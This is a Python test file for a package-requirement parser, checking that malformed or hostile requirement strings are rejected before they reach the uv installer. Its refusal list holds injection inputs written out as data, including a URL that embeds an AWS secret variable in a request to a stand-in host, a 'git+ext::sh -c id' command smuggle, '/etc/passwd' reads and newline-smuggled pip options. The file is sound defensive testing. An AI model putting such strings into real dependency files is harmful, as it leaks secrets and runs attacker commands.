from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from dagy_builder.contract import Reason
from dagy_builder.failure import StepError
from dagy_builder.requirement import parse_requirement, parse_requirements, requirements_file

REFUSED = [
    ("-r /etc/passwd", "options of pip"),
    ("--index-url=http://evil.example", "options of pip"),
    ("  -e .", "options of pip"),
    ("requests\n--find-links http://evil.example", "line break"),
    ("requests\r-r x", "line break"),
    ("requests\u2028-r x", "line break"),
    ("requests\x00", "control character"),
    ("foo @ http://h.example/${AWS_SECRET_ACCESS_KEY}/f.whl", "'$' is not allowed"),
    ("foo @ file:///etc/passwd", "file URLs are not allowed"),
    ("foo @ http://h.example/foo-1.0-py3-none-any.whl", "http URLs are not allowed"),
    ("foo @ git+https://github.com/a/b", "git+https URLs are not allowed"),
    ("foo @ git+ext::sh -c id", "PEP 508"),
    ("foo @ ./local", "local URLs are not allowed"),
    ("./folder", "PEP 508"),
    ("/etc/passwd", "PEP 508"),
    ("foo @ https://user:secret@h.example/foo-1.0-py3-none-any.whl", "credentials"),
    ("foo @ https://h.example/folder/", "name of a wheel"),
    ("foo @ https://h.example/a/..;/foo-1.0-py3-none-any.whl", "can be read in two ways"),
    ("foo @ https://h.example\\.evil/foo-1.0-py3-none-any.whl", "can be read in two ways"),
    ("foo @ https://h.example/bar-1.0-py3-none-any.whl", "a file of bar"),
    ("requests==", "PEP 508"),
    ("", "PEP 508"),
    ("a" * 513, "512 characters"),
]


@pytest.mark.parametrize(("text", "reason"), REFUSED)
def test_what_never_reaches_uv(text: str, reason: str) -> None:
    with pytest.raises(StepError) as caught:
        parse_requirements(["idna", text])
    assert caught.value.reason is Reason.MALFORMED_REQUIREMENT
    (problem,) = caught.value.problems
    assert reason in problem.message or reason in (problem.why or "")
    assert "\n" not in problem.message
    assert "secret@" not in problem.message


def test_all_of_them_are_reported() -> None:
    with pytest.raises(StepError) as caught:
        parse_requirements([text for text, _ in REFUSED])
    assert len(caught.value.problems) == len(REFUSED)


def test_a_direct_reference_is_allowed() -> None:
    assert parse_requirement("mylib @ https://h.example/mylib-1.0-py3-none-any.whl").url


@given(st.permutations(["b>=1", "a", "c[x]==1.0"]))
def test_the_order_does_not_matter(texts: list[str]) -> None:
    assert requirements_file(parse_requirements(texts)) == "a\nb>=1\nc[x]==1.0\n"


@given(st.text(max_size=60))
def test_no_text_gets_through_that_is_no_requirement(text: str) -> None:
    try:
        parsed = parse_requirement(text)
    except ValueError:
        return
    line = str(parsed)
    assert "\n" not in line
    assert "$" not in line
    assert not line.startswith("-")
    assert line[0].isalnum()
